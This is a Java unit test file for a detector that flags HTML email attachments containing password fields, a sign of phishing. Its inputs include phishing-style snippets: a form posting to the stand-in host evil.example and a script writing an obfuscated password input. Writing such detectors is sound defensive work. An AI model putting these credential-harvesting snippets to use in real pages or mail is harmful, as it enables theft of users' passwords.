package kanshiki.attachment;

import static kanshiki.file.SampleFiles.utf8;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class PasswordFieldInAttachmentTest {
  @Test
  void signInPage() {
    assertThat(
            AttachmentMails.findings(
                new PasswordFieldInAttachment(),
                "a.html",
                utf8("<html><form action=\"https://evil.example/p\"><input type=password></form>")))
        .containsExactly("password-field-in-attachment a.html");
  }

  @Test
  void writtenByAScript() {
    assertThat(
            AttachmentMails.findings(
                new PasswordFieldInAttachment(),
                "a.html",
                utf8("<script>document.write(unescape('%3Cinput%20type%3Dpassword%3E'))</script>")))
        .containsExactly("password-field-in-attachment a.html");
  }

  @Test
  void staysQuietOnOtherFields() {
    assertThat(
            AttachmentMails.findings(
                new PasswordFieldInAttachment(),
                "a.html",
                utf8("<html><form action=\"https://evil.example/p\"><input name=card></form>")))
        .isEmpty();
  }
}
